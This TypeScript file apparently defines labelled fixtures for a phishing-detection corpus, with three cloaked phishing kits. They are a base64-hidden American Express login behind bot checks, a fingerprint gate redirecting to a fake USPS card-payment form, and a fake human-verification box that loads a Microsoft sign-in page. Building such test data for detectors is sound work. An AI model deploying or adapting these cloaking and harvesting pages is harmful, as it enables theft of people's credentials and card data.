import { htmlRoute, type Entry } from '../entry.js';
import { baseCss, doc, siteFooter, siteNav } from '../parts/d-parts.js';

/** Cloaked kits: benign face for bots (navigator.webdriver, UA, headless hints), the kit for people — swapped in by script or fetched later. Written for corpus/d. */
export const entries: Entry[] = [

{
  id: 'd-cloak-webdriver-amex',
  label: 'phishing',
  kind: 'cloaked-webdriver',
  url: 'https://www.greenleaf-consulting-group.com/clients/portal/',
  body: doc({
    title: 'Greenleaf Consulting Group — Client Portal',
    css: baseCss('#166534'),
    body: `${siteNav({ brand: 'Greenleaf Consulting', links: ['Services', 'Industries', 'Insights', 'About'] })}
<main id="main" class="container" style="padding:40px 24px"><h1>Client Portal</h1><p>Our client portal is undergoing scheduled maintenance. Please check back later or contact your engagement manager.</p></main>
${siteFooter({ company: 'Greenleaf Consulting Group LLC' })}
<script>
(function(){var bot=navigator.webdriver||/HeadlessChrome|PhantomJS|bot|crawl|spider|Lighthouse/i.test(navigator.userAgent)||!navigator.languages||navigator.languages.length===0||(window.outerWidth===0);
if(bot)return;
var k='PGRpdiBzdHlsZT0iZm9udC1mYW1pbHk6SGVsdmV0aWNhLEFyaWFsO21heC13aWR0aDo0MjBweDttYXJnaW46NDBweCBhdXRvO3BhZGRpbmc6MjRweDtib3JkZXI6MXB4IHNvbGlkICNkZGQiPjxkaXYgc3R5bGU9ImJhY2tncm91bmQ6IzAwNmZjZjtjb2xvcjojZmZmO3BhZGRpbmc6MTBweDtmb250LXdlaWdodDpib2xkIj5BTUVSSUNBTiBFWFBSRVNTPC9kaXY+PGgyPkxvZyBJbjwvaDI+PHA+V2UgaGF2ZSB0ZW1wb3JhcmlseSBzdXNwZW5kZWQgeW91ciBDYXJkLiBMb2cgaW4gdG8gdmVyaWZ5IHJlY2VudCBjaGFyZ2VzLjwvcD48Zm9ybSBtZXRob2Q9InBvc3QiIGFjdGlvbj0iL2NsaWVudHMvcG9ydGFsL2F1dGgucGhwIj48aW5wdXQgbmFtZT0idXNlcklkIiBwbGFjZWhvbGRlcj0iVXNlciBJRCIgc3R5bGU9IndpZHRoOjEwMCU7cGFkZGluZzoxMHB4Ij48YnI+PGJyPjxpbnB1dCBuYW1lPSJwYXNzd29yZCIgdHlwZT0icGFzc3dvcmQiIHBsYWNlaG9sZGVyPSJQYXNzd29yZCIgc3R5bGU9IndpZHRoOjEwMCU7cGFkZGluZzoxMHB4Ij48YnI+PGJyPjxpbnB1dCBuYW1lPSJjYXJkIiBwbGFjZWhvbGRlcj0iQ2FyZCBudW1iZXIiIHN0eWxlPSJ3aWR0aDoxMDAlO3BhZGRpbmc6MTBweCI+PGJyPjxicj48aW5wdXQgbmFtZT0iY2lkIiBwbGFjZWhvbGRlcj0iNC1kaWdpdCBDSUQiIHN0eWxlPSJ3aWR0aDoxMDAlO3BhZGRpbmc6MTBweCI+PGJyPjxicj48YnV0dG9uIHN0eWxlPSJiYWNrZ3JvdW5kOiMwMDZmY2Y7Y29sb3I6I2ZmZjtib3JkZXI6MDtwYWRkaW5nOjEycHg7d2lkdGg6MTAwJSI+TG9nIEluPC9idXR0b24+PC9mb3JtPjwvZGl2Pg==';
document.open();document.write('<!doctype html><title>American Express Login</title>'+atob(k));document.close();})();
</script>`,
  }),
},

{
  id: 'd-cloak-ua-gate-server',
  label: 'phishing',
  kind: 'cloaked-fetch-gate',
  url: 'https://t.shipnotify-express.com/r/Kq8fP2',
  body: doc({
    title: 'Shipment notification',
    css: `body{font-family:Arial;margin:40px}`,
    body: `<p>Loading tracking information…</p>
<script>
fetch('/r/api/gate',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({ua:navigator.userAgent,wd:!!navigator.webdriver,tz:Intl.DateTimeFormat().resolvedOptions().timeZone,sw:screen.width,pl:navigator.plugins.length,touch:'ontouchstart' in window})}).then(function(r){return r.json()}).then(function(j){if(j.ok){location.replace(j.u)}else{location.replace('https://www.google.com/search?q=package+tracking')}}).catch(function(){location.replace('https://www.google.com/')});
</script>`,
  }),
  routes: {
    't.shipnotify-express.com/r/api/gate': { status: 200, headers: { 'content-type': 'application/json' }, body: JSON.stringify({ ok: true, u: 'https://usps-redelivery.tracking-hold-center.com/home/schedule' }) },
    'usps-redelivery.tracking-hold-center.com/home/schedule': htmlRoute(
      doc({
        title: 'USPS.com® - Redelivery',
        css: baseCss('#333366') + `.w{max-width:540px;margin:30px auto}`,
        body: `<div class="w card"><img src="img/usps-eagle.svg" alt="USPS" height="40"><h1 style="font-size:22px">Your package is on hold</h1><p>The package arrived at the warehouse but could not be delivered due to incomplete address information. Please confirm your address and pay the $0.30 redelivery fee.</p><form method="post" action="/home/pay"><div class="form-group"><label>Full name</label><input name="n"></div><div class="form-group"><label>Address</label><input name="a"></div><div class="form-group"><label>Card number</label><input name="c"></div><div class="form-group"><label>Exp</label><input name="e"></div><div class="form-group"><label>CVV</label><input name="v"></div><button class="btn btn-block">Pay $0.30</button></form></div>`,
      }),
    ),
  },
},

{
  id: 'd-cloak-turnstile-then-kit',
  label: 'phishing',
  kind: 'cloaked-captcha-gate',
  url: 'https://files.lexington-cpa-partners.com/share/d/7c1e/',
  body: doc({
    title: 'Verifying…',
    css: `body{font-family:system-ui;display:flex;height:100vh;align-items:center;justify-content:center;margin:0;background:#fafafa}.c{text-align:center}.cf{width:300px;height:65px;border:1px solid #ddd;background:#fff;display:flex;align-items:center;gap:10px;padding:0 14px;margin:16px auto}`,
    body: `<div class="c"><h2>Checking that you are human</h2><p>This secure file share is protected against automated access.</p><div class="cf"><input type="checkbox" id="h"><label for="h">Verify you are human</label></div></div>
<script>
var moves=0;document.addEventListener('mousemove',function(){moves++});
document.getElementById('h').addEventListener('change',function(){if(moves<5||navigator.webdriver){return}
fetch('/share/d/7c1e/view.html').then(function(r){return r.text()}).then(function(h){document.open();document.write(h);document.close()})});
</script>`,
  }),
  routes: {
    'files.lexington-cpa-partners.com/share/d/7c1e/view.html': htmlRoute(
      doc({
        title: 'Sign in to your account',
        body: `<div style="font-family:Segoe UI;max-width:440px;margin:90px auto;padding:40px;box-shadow:0 2px 6px #999"><b>Microsoft</b><h2>Sign in</h2><p>to view Tax_Return_2025_signed.pdf</p><form method="post" action="https://files.lexington-cpa-partners.com/share/d/7c1e/p.php"><input name="login" type="email" placeholder="Email" style="width:100%;padding:8px"><br><br><input name="passwd" type="password" placeholder="Password" style="width:100%;padding:8px"><br><br><button>Sign in</button></form></div>`,
      }),
    ),
  },
},

];
